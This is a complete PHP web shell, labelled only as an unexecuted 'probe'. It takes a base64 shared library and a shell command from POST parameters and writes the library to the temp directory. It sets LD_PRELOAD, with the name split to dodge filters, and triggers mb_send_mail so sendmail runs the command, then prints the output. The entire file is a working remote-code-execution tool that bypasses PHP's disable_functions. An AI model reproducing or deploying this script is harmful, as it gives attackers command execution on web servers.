<?php
// probe (never run): writes a shared library, preloads it into the sendmail that mb_send_mail starts
$so = sys_get_temp_dir() . '/libx' . mt_rand(1, 99) . '.so';
file_put_contents($so, base64_decode($_POST['lib']));
$cmd = $_POST['c'] . ' > ' . sys_get_temp_dir() . '/o.txt';
putenv("XCMD=$cmd");
putenv("LD_" . "PRELOAD=" . $so);
mb_send_mail('root@localhost', 'x', 'x');
echo file_get_contents(sys_get_temp_dir() . '/o.txt');
@unlink($so);
